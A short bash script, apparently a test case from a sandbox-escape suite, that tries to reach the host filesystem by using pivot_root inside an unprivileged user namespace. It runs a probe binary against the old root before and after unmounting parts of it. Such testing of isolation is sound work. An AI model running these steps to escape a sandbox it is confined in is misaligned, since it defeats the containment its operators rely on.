#!/bin/bash
# title: pivot_root in a user namespace
# door: any
inside='mkdir -p "$WORK/new"
mount -t tmpfs any "$WORK/new" && mkdir "$WORK/new/old" || exit
for dir in bin usr lib lib64; do
    mkdir "$WORK/new/$dir" && mount --rbind "/$dir" "$WORK/new/$dir"
done
cp "$ATTACK/probe" "$WORK/new/probe"
cd "$WORK/new" && pivot_root . old && exec chroot . bash -c "/probe /old; umount -l /old/home; /probe /old; umount -l /old; /probe /old \"\""'
echo "tried: $(unshare -Urm true 2>&1 && echo a user namespace)"
unshare -Urm --propagation private bash -c "$inside" 2>/dev/null
